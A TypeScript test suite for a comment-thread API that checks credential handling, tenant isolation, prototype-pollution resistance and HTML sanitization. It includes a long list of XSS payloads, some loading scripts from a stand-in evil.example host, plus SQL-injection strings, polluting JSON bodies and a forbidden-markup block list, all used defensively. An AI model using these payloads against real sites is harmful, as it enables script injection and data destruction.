// Comment operations: credentials, tenant isolation, HTML/script injection, hostile ids and payloads
// (docs/api.md, "Wire format", "Credentials", "Comment threads" and "What always holds").
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import {
  assertNoLeak,
  badCredentialCases,
  expectBadCredentials,
  expectMissingCredentials,
  FORBIDDEN_MARKUP,
  raw,
} from '../helpers/security.js';
import { expectError, makeTestApp, PATHS, type Caller, type Reply, type TestApp } from '../helpers/app.js';

let t: TestApp;
let seq = 0;
const uniq = (prefix: string) => `${prefix}-${++seq}`;
const c = (commentText: string, userId = 'u1', extra: Record<string, unknown> = {}) => ({
  commentText,
  from: { userId },
  ...extra,
});
const ALL = [PATHS.annotationsAdd, PATHS.commentsAdd, PATHS.commentsGet] as const;

type Where = { organizationId: string; documentId: string; annotationId: string };

async function thread(commentData: unknown[], where: Partial<Where> = {}, caller: Caller = t.a): Promise<Where> {
  const w = {
    organizationId: where.organizationId ?? uniq('org'),
    documentId: where.documentId ?? 'doc',
    annotationId: where.annotationId ?? uniq('ann'),
  };
  const r = await caller.ok(PATHS.annotationsAdd, {
    organizationId: w.organizationId,
    documentId: w.documentId,
    commentAnnotations: [{ annotationId: w.annotationId, commentData }],
  });
  assert.equal(Object.getOwnPropertyDescriptor(r.data, w.annotationId)?.value?.success, true, JSON.stringify(r));
  return w;
}

async function comments(where: Where, caller: Caller = t.a, extra: Record<string, unknown> = {}): Promise<any[]> {
  return (await caller.ok(PATHS.commentsGet, { ...where, ...extra })).data;
}

function dataFor(path: string, where: Where): Record<string, unknown> {
  if (path === PATHS.annotationsAdd) {
    return {
      organizationId: where.organizationId,
      documentId: where.documentId,
      commentAnnotations: [{ annotationId: where.annotationId, commentData: [c('x')] }],
    };
  }
  if (path === PATHS.commentsAdd) return { ...where, commentData: [c('x')] };
  return { ...where };
}

/** Markup and URLs that must never come back out of commentHtml. */
const FORBIDDEN_HTML = [
  ...FORBIDDEN_MARKUP,
  /<img/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /srcdoc/i,
  /style\s*=/i,
  /expression\(/i,
];

describe('comments security', () => {
  before(async () => {
    t = await makeTestApp();
  });
  after(async () => {
    await t.close();
  });

  test('missing credential headers: 401 naming the header, even with a garbage body', async () => {
    const where = await thread([c('x')]);
    for (const path of ALL) {
      for (const body of [{ data: dataFor(path, where) }, '{{{not json', '']) {
        await expectMissingCredentials(t, path, body);
      }
    }
  });

  test('wrong or mismatched credentials: one 401 message, checked before the body; nothing written', async () => {
    const where = await thread([c('original')]);
    const cases = badCredentialCases(t);
    for (const path of ALL) {
      for (const [label, headers] of cases) {
        const annotationId = path === PATHS.annotationsAdd ? 'intruder-ann' : where.annotationId;
        await expectBadCredentials(t, path, label, headers, { data: dataFor(path, { ...where, annotationId }) });
      }
    }
    assert.deepEqual(
      (await comments(where)).map((x) => x.commentText),
      ['original'],
    );
    assert.deepEqual(await comments({ ...where, annotationId: 'intruder-ann' }), []);
  });

  test("tenant isolation: b naming a's organization, document and annotation sees nothing", async () => {
    const where = await thread([
      { commentText: 'secret one', from: { userId: 'alice', name: 'Alice', email: 'alice@a.example' } },
      { commentText: 'secret two', from: { userId: 'bob' } },
    ]);
    assert.deepEqual(await comments(where, t.b), []);
    assert.deepEqual(await comments(where, t.b, { commentIds: [1, 2, 1] }), [null, null, null]);
    assert.deepEqual(await comments(where, t.b, { userIds: ['alice', 'bob'] }), []);
    assert.equal((await comments(where)).length, 2, 'a still sees its own');
  });

  test("tenant isolation: b cannot add comments to a's annotation", async () => {
    const where = await thread([c('a-only')]);
    const r = await t.b.post(PATHS.commentsAdd, {
      ...where,
      commentData: [c('from b'), c('from b with id', 'u', { commentId: 50 })],
    });
    expectError(r, 404, 'NOT_FOUND', "b comments/add to a's annotation");
    assert.deepEqual(
      (await comments(where)).map((x) => x.commentText),
      ['a-only'],
    );
  });

  test('tenant isolation: b creates its own annotation with the same ids, independently', async () => {
    const where = await thread([c('a1'), c('a2')]);
    const r = await t.b.ok(PATHS.annotationsAdd, {
      organizationId: where.organizationId,
      documentId: where.documentId,
      commentAnnotations: [{ annotationId: where.annotationId, commentData: [c('b1', 'u', { commentId: 1 })] }],
    });
    assert.deepEqual(
      r.data[where.annotationId],
      { success: true, annotationId: where.annotationId, commentIds: [1], message: 'Added Successfully' },
      'a taken id in tenant a is free in tenant b',
    );
    assert.deepEqual((await t.b.ok(PATHS.commentsAdd, { ...where, commentData: [c('b2')] })).data, [2]);
    assert.deepEqual(
      (await t.b.ok(PATHS.commentsAdd, { ...where, commentData: [c('b-chosen', 'u', { commentId: 2000 })] })).data,
      [2000],
    );
    assert.deepEqual(
      (await comments(where, t.b)).map((x) => x.commentText),
      ['b1', 'b2', 'b-chosen'],
    );
    assert.deepEqual(
      (await comments(where)).map((x) => x.commentText),
      ['a1', 'a2'],
      "a's thread untouched",
    );
    // a's next generated id is not influenced by b's 2000.
    assert.deepEqual((await t.a.ok(PATHS.commentsAdd, { ...where, commentData: [c('a3')] })).data, [3]);
  });

  test("tenant isolation: profiles of one tenant never resolve another tenant's authors", async () => {
    const where = await thread([{ commentText: 'hi', from: { userId: 'shared', name: 'Sent By A', email: 'a@a.example' } }]);
    await thread([{ commentText: 'hi', from: { userId: 'shared' } }], where, t.b);
    await t.b.ok(PATHS.usersAdd, {
      organizationId: where.organizationId,
      users: [{ userId: 'shared', name: 'B Profile', email: 'b@b.example' }],
    });
    assert.deepEqual((await comments(where))[0].from, { email: 'a@a.example', name: 'Sent By A', userId: 'shared' });
    assert.deepEqual((await comments(where, t.b))[0].from, { email: 'b@b.example', name: 'B Profile', userId: 'shared' });
    await t.a.ok(PATHS.usersAdd, { organizationId: where.organizationId, users: [{ userId: 'shared', name: 'A Profile' }] });
    assert.deepEqual((await comments(where))[0].from, { email: 'a@a.example', name: 'A Profile', userId: 'shared' });
    assert.deepEqual((await comments(where, t.b))[0].from, { email: 'b@b.example', name: 'B Profile', userId: 'shared' });
  });

  test('script and HTML injection in commentHtml never comes back unsanitized', async () => {
    const payloads = [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<svg><script>alert(1)</script></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<a href="javascript:alert(1)">click</a>',
      '<a href="JaVaScRiPt:alert(1)">click</a>',
      '<a href=" javascript:alert(1)">click</a>',
      '<a href="java&#x09;script:alert(1)">click</a>',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
      '<a href="vbscript:msgbox(1)">click</a>',
      '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">click</a>',
      '<p style="background:url(javascript:alert(1))">styled</p>',
      '<span style="width:expression(alert(1))">x</span>',
      '<style>@import "https://evil.example/x.css";</style>',
      '<object data="https://evil.example/x.swf"></object><embed src="x">',
      '<form action="https://evil.example"><input name="p" autofocus onfocus="alert(1)"></form>',
      '<body onload="alert(1)">',
      '<div onmouseover="alert(1)">hover</div>',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<base href="javascript:alert(1)//">',
      '<link rel="stylesheet" href="javascript:alert(1)">',
      '<template><script>alert(1)</script></template>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      '<textarea><script>alert(1)</script></textarea>',
      '<!--<script>alert(1)</script>-->',
      '<![CDATA[<script>alert(1)</script>]]>',
      '<p>unclosed <b>bold <script>alert(1)',
      '"><script>alert(1)</script>',
      '<<script>script>alert(1)<</script>/script>',
    ];
    const where = await thread(payloads.map((commentHtml) => ({ commentHtml, from: { userId: 'attacker' } })));
    const viaAdd = await t.a.ok(PATHS.commentsAdd, {
      ...where,
      commentData: payloads.map((commentHtml) => ({ commentHtml, commentText: 'given', from: { userId: 'attacker' } })),
    });
    assert.equal(viaAdd.data.length, payloads.length);
    const list = await comments(where);
    assert.equal(list.length, payloads.length * 2);
    list.forEach((x, i) => {
      const source = payloads[i % payloads.length];
      for (const bad of FORBIDDEN_HTML)
        assert.doesNotMatch(
          x.commentHtml,
          bad,
          `payload ${JSON.stringify(source)} came back as ${JSON.stringify(x.commentHtml)}`,
        );
      // Derived text never carries script or style bodies (entities decoded text is plain text, not HTML).
      if (i < payloads.length && !source!.includes('&lt;') && !/<!--|CDATA|textarea|noscript|<<|scr<script>/i.test(source!)) {
        assert.doesNotMatch(
          x.commentText,
          /alert\(1\)|evil\.example\/x\.css/,
          `derived text of ${JSON.stringify(source)}: ${JSON.stringify(x.commentText)}`,
        );
      }
    });
    // The safe link of the onclick payload keeps its href and loses its handlers.
    const onclick = list[payloads.indexOf('<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">click</a>')];
    assert.equal(onclick.commentHtml, '<a href="https://ok.example">click</a>');
  });

  test('commentText with markup is escaped in the derived html', async () => {
    const text = '<script>alert(1)</script><img src=x onerror=alert(2)> & "quotes"';
    const [x] = await comments(await thread([c(text)]));
    assert.equal(x.commentText, text, 'plain text is kept as sent');
    assert.equal(
      x.commentHtml,
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt; &amp; &quot;quotes&quot;</p>',
    );
    for (const bad of [/<script/i, /<img/i]) assert.doesNotMatch(x.commentHtml, bad);
  });

  test('HTML in author fields and ids is returned as JSON data with a JSON content type', async () => {
    const evilId = '<img src=x onerror=alert(1)>';
    const where = await thread([{ commentText: 'x', from: { userId: evilId, name: '<script>alert(1)</script>' } }], {
      annotationId: '<script>alert("ann")</script>',
    });
    const r = await t.a.post(PATHS.commentsGet, where);
    assert.equal(r.status, 200, r.body);
    assert.match(String(r.headers['content-type']), /^application\/json/);
    assert.deepEqual(r.json.result.data[0].from, { email: '', name: '<script>alert(1)</script>', userId: evilId });
    const nf = await t.a.post(PATHS.commentsAdd, { ...where, annotationId: '<script>alert(2)</script>', commentData: [c('x')] });
    expectError(nf, 404, 'NOT_FOUND');
    assert.match(String(nf.headers['content-type']), /^application\/json/, 'errors that may echo ids are JSON, not HTML');
  });

  test('__proto__, constructor and prototype work as ordinary ids everywhere', async () => {
    for (const name of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']) {
      const where = { organizationId: name, documentId: name, annotationId: name };
      const r = await t.a.post(PATHS.annotationsAdd, {
        organizationId: name,
        documentId: name,
        commentAnnotations: [
          { annotationId: name, commentData: [{ commentText: `by ${name}`, from: { userId: name } }] },
          { annotationId: `${name}2`, commentData: [c('x')] },
        ],
      });
      assert.equal(r.status, 200, r.body);
      const entry = Object.getOwnPropertyDescriptor(r.json.result.data, name)?.value;
      assert.deepEqual(entry, { success: true, annotationId: name, commentIds: [1], message: 'Added Successfully' }, r.body);
      assert.deepEqual(Object.keys(r.json.result.data).sort(), [name, `${name}2`].sort(), r.body);
      assert.deepEqual((await t.a.ok(PATHS.commentsAdd, { ...where, commentData: [c('second', name)] })).data, [2]);
      await t.a.ok(PATHS.usersAdd, { organizationId: name, users: [{ userId: name, name: `Profile ${name}` }] });
      const list = await comments(where, t.a, { userIds: [name] });
      assert.equal(list.length, 2, JSON.stringify(list));
      assert.deepEqual(list[0].from, { email: '', name: `Profile ${name}`, userId: name });
      // Taken: success false for that entry.
      const again = await t.a.post(PATHS.annotationsAdd, {
        organizationId: name,
        documentId: name,
        commentAnnotations: [{ annotationId: name, commentData: [c('x')] }],
      });
      assert.deepEqual(
        Object.getOwnPropertyDescriptor(again.json.result.data, name)?.value,
        { success: false, annotationId: name, message: 'Annotation already exists.' },
        again.body,
      );
      // Tenant b does not see it.
      assert.deepEqual(await comments(where, t.b), []);
    }
    assert.equal(({} as Record<string, unknown>).success, undefined, 'Object.prototype not polluted');
  });

  test('__proto__ and constructor keys inside the JSON body are harmless', async () => {
    const org = uniq('org');
    const payload =
      `{"data":{"organizationId":"${org}","documentId":"doc","__proto__":{"annotationId":"fromProto"},` +
      `"constructor":{"prototype":{"polluted":true}},"commentAnnotations":[{"annotationId":"real",` +
      `"location":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"page":1},` +
      `"context":{"__proto__":{"isAdmin":true}},` +
      `"commentData":[{"commentText":"x","__proto__":{"commentId":99},"from":{"userId":"u","__proto__":{"name":"Proto Name"}}}]}]}}`;
    const r = await t.a.post(PATHS.annotationsAdd, null, { raw: payload, headers: { 'content-type': 'application/json' } });
    assert.ok(r.status === 200 || r.status === 400, `${r.status} ${r.body}`);
    if (r.status === 200) {
      assert.deepEqual(
        r.json.result.data,
        { real: { success: true, annotationId: 'real', commentIds: [1], message: 'Added Successfully' } },
        r.body,
      );
      const [x] = await comments({ organizationId: org, documentId: 'doc', annotationId: 'real' });
      assert.deepEqual(x.from, { email: '', name: '', userId: 'u' }, 'a __proto__ key must not supply the author name');
    }
    const get = await t.a.post(PATHS.commentsGet, null, {
      raw:
        `{"data":{"organizationId":"${org}","documentId":"doc","annotationId":"real",` +
        `"__proto__":{"commentIds":[5]},"constructor":{"prototype":{"userIds":["x"]}}}}`,
      headers: { 'content-type': 'application/json' },
    });
    assert.ok(get.status === 200 || get.status === 400, get.body);
    if (get.status === 200 && r.status === 200)
      assert.deepEqual(
        get.json.result.data.map((x: any) => x.commentId),
        [1],
        'no filter smuggled via __proto__',
      );
    for (const k of ['polluted', 'isAdmin', 'commentIds', 'userIds', 'annotationId']) {
      assert.equal(({} as Record<string, unknown>)[k], undefined, `Object.prototype.${k} polluted`);
    }
  });

  test('SQL-looking ids and filter values are plain strings', async () => {
    const where = await thread([c('one', 'alice'), c('two', 'bob')]);
    const hostile = ["' OR '1'='1", "alice' --", '%', '_', '*', '") OR 1=1 --', '[]', 'null', '1) OR (1=1'];
    assert.deepEqual(await comments(where, t.a, { userIds: hostile }), []);
    for (const h of hostile) {
      assert.deepEqual(await comments({ ...where, annotationId: h }), []);
      assert.deepEqual(await comments({ ...where, documentId: h }), []);
      assert.deepEqual(await comments({ ...where, organizationId: `${where.organizationId}${h}` }), []);
      expectError(await t.a.post(PATHS.commentsAdd, { ...where, annotationId: h, commentData: [c('x')] }), 404, 'NOT_FOUND', h);
    }
    assert.deepEqual(
      (await comments(where)).map((x) => x.commentText),
      ['one', 'two'],
    );
    // Stored and read back literally.
    const w2 = await thread(
      hostile.map((h) => ({ commentText: h, from: { userId: h } })),
      { annotationId: "'; DROP TABLE comments; --" },
    );
    const back = await comments(w2, t.a, { userIds: [hostile[0]!] });
    assert.deepEqual(
      back.map((x) => x.commentText),
      [hostile[0]],
    );
    assert.equal((await comments(w2)).length, hostile.length);
  });

  test('deeply nested free-form objects (location/context/status) never cause a 500', async () => {
    // docs/api.md "What always holds": no input, however malformed or large, makes the server answer 500. ~100 KB,
    // under the body limit.
    let deep = '1';
    for (let i = 0; i < 20000; i++) deep = `{"a":${deep}}`;
    for (const member of ['location', 'context', 'status']) {
      const org = uniq('org');
      const r = await t.a.post(PATHS.annotationsAdd, null, {
        raw:
          `{"data":{"organizationId":"${org}","documentId":"doc","commentAnnotations":[{"annotationId":"deep",` +
          `"${member}":${deep},"commentData":[{"commentText":"x","from":{"userId":"u"}}]}]}}`,
        headers: { 'content-type': 'application/json' },
      });
      assert.ok(
        r.status === 200 || r.status === 400,
        `${member} nested 20000 deep: expected 200 or 400, got ${r.status}: ${r.body.slice(0, 300)}`,
      );
      if (r.status === 400) expectError(r, 400, 'INVALID_ARGUMENT', member);
      assertNoLeak(r, `deep ${member}`);
    }
  });

  test('deeply nested HTML, huge comments and odd strings never cause a 500 or a leak', async () => {
    const where = await thread([c('x')]);
    const nested = `${'<b>'.repeat(20000)}deep${'</b>'.repeat(20000)}`;
    const unclosed = '<p><b><i><u>'.repeat(5000);
    const big = 'x'.repeat(600_000);
    for (const commentData of [
      [{ commentHtml: nested, from: { userId: 'u' } }],
      [{ commentHtml: unclosed, from: { userId: 'u' } }],
      [{ commentText: big, from: { userId: 'u' } }],
      [{ commentText: '\u0000\u0001\u001f\u2028\u2029\ud800', commentHtml: '\u0000<p>\ud83d</p>', from: { userId: '\u0000' } }],
    ]) {
      const r = await t.a.post(PATHS.commentsAdd, { ...where, commentData });
      assert.ok(r.status === 200 || r.status === 400 || r.status === 413, `${r.status} ${r.body.slice(0, 300)}`);
      assertNoLeak(r, 'odd comment');
    }
    const got = await t.a.post(PATHS.commentsGet, where);
    assert.equal(got.status, 200, got.body.slice(0, 300));
    for (const x of got.json.result.data) for (const bad of FORBIDDEN_HTML) assert.doesNotMatch(x.commentHtml, bad);
  });

  test('error messages carry no stack traces, file paths or SQL', async () => {
    const where = await thread([c('x', 'u', { commentId: 1 })]);
    const responses: [string, Reply][] = [
      ['not found', await t.a.post(PATHS.commentsAdd, { ...where, annotationId: 'missing', commentData: [c('x')] })],
      ['already exists', await t.a.post(PATHS.commentsAdd, { ...where, commentData: [c('x', 'u', { commentId: 1 })] })],
      [
        'exhausted',
        await (async () => {
          const full = await thread([c('m', 'u', { commentId: 2147483647 })]);
          return t.a.post(PATHS.commentsAdd, { ...full, commentData: [c('x')] });
        })(),
      ],
      [
        'bad json',
        await t.a.post(PATHS.commentsGet, null, {
          raw: '{"data":{"organizationId":',
          headers: { 'content-type': 'application/json' },
        }),
      ],
      ['bad type', await t.a.post(PATHS.commentsGet, { ...where, commentIds: [{ $gt: 0 }] })],
      [
        'huge number',
        await t.a.post(PATHS.commentsGet, null, {
          raw: `{"data":{"organizationId":"o","documentId":"d","annotationId":"a","commentIds":[1e400]}}`,
          headers: { 'content-type': 'application/json' },
        }),
      ],
      [
        'negative zero',
        await t.a.post(PATHS.commentsGet, null, {
          raw: `{"data":{"organizationId":"o","documentId":"d","annotationId":"a","commentIds":[-0]}}`,
          headers: { 'content-type': 'application/json' },
        }),
      ],
      ['unknown op', await t.a.post('/v1/commentannotations/archive', where)],
      [
        'bad creds',
        await raw(t, PATHS.commentsGet, { 'x-service-api-key': "'; --", 'x-service-auth-token': '\\' }, { data: where }),
      ],
    ];
    for (const [label, r] of responses) {
      assert.ok(r.status >= 400, `${label} should be an error: ${r.body}`);
      assert.equal(typeof r.json?.error?.message, 'string', `${label}: ${r.body}`);
      assertNoLeak(r, label);
    }
    assert.equal(responses[0]![1].status, 404);
    assert.equal(responses[1]![1].status, 409);
    assert.equal(responses[2]![1].status, 429);
  });
});
